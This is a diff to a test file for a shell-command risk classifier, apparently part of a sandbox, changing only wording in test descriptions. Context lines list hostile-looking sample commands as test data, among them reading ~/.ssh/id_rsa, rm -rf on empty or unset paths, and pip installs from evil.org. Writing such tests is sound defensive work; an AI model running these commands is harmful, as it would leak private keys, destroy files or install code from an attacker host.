@@ -116,15 +116,15 @@ SCRIPTS = [
     ("x=a/o; sort ${x/a\\//-} out.txt a.txt",     Tier.WRITE,        "likewise"),
     ("x=-OOUT; sort ${x,,}",                      Tier.WRITE,        "likewise"),
     ("x=abc-o; sort ${x:3} out.txt a.txt",        Tier.WRITE,        "likewise"),
-    ("x=abc; sort ${x%$y} out.txt",               Tier.UNKNOWN,      "a pattern known only when it runs"),
-    ("${x:-touch} y",                             Tier.UNKNOWN,      "a program known only when it runs"),
+    ("x=abc; sort ${x%$y} out.txt",               Tier.UNKNOWN,      "a pattern known only at run time"),
+    ("${x:-touch} y",                             Tier.UNKNOWN,      "a program known only at run time"),
     ("${x:-cat} ~/.ssh/id_rsa",                   Tier.SECRET,       "what it may well be"),
     ("x=ls; ${x:-touch} y",                       Tier.READ,         "a program that is known"),
     ("x=ls; ${x/ls/touch} y",                     Tier.WRITE,        "a program that is known"),
     ("echo x > ${TMPDIR:-/tmp}/ringfence-none",   Tier.WRITE,        "either way the sandbox's own folder"),
     ("echo x > ${TMPDIR:-/nowhere}/x",            Tier.WRITE_OUTSIDE, "one way outside"),
     ("TMPDIR=/nowhere; echo x > ${TMPDIR:-/tmp}/x", Tier.UNKNOWN,    "programs obey it"),
-    ("echo x > \"${OUT:-out.txt}\"",              Tier.UNKNOWN,      "a path known only when it runs"),
+    ("echo x > \"${OUT:-out.txt}\"",              Tier.UNKNOWN,      "a path known only at run time"),
     ("OUT=; echo x > \"${OUT:-out.txt}\"",        Tier.WRITE,        "a path that is known"),
     ("OUT=out.txt; echo x > ${OUT:-/nowhere/x}",  Tier.WRITE,        "a path that is known"),
     ("f=a.txt; touch \"${f%.txt}.md\"",           Tier.WRITE,        "another ending"),
@@ -132,7 +132,7 @@ SCRIPTS = [
     ("f=/nowhere/a.txt; touch \"${f##*/}\"",      Tier.WRITE,        "the name alone"),
     ("f=/nowhere/a.txt; touch \"${f%/*}/b\"",     Tier.WRITE_OUTSIDE, "the folder alone"),
     ("f=a; rm -rf \"${f#a}/\"",                   Tier.DANGEROUS,    "nothing is left of it"),
-    ("rm -rf \"${DIR:?}/\"*",                     Tier.UNKNOWN,      "a folder known only when it runs"),
+    ("rm -rf \"${DIR:?}/\"*",                     Tier.UNKNOWN,      "a folder known only at run time"),
     # arithmetic
     ("echo $((1 + 2 * 3))",                       Tier.READ,         "numbers"),
     ("n=3; head -n $((n * 2)) a.txt",             Tier.READ,         "a name that holds a number"),
@@ -416,8 +416,8 @@ HOSTS = [
     ("mongosh mongodb+srv://example.org/db", "", "the name only says where the hosts are named"),
     ("pip install -ihttps://evil.org/simple x", "evil.org", "a value glued to its letter"),
     ("pip install git+git@evil.org:x", "evil.org:22", "a login with a plus"),
-    ("git push", "", "known only when it runs"),
-    ('curl "$URL"', "", "known only when it runs"),
+    ("git push", "", "known only at run time"),
+    ('curl "$URL"', "", "known only at run time"),
 ]
 
 
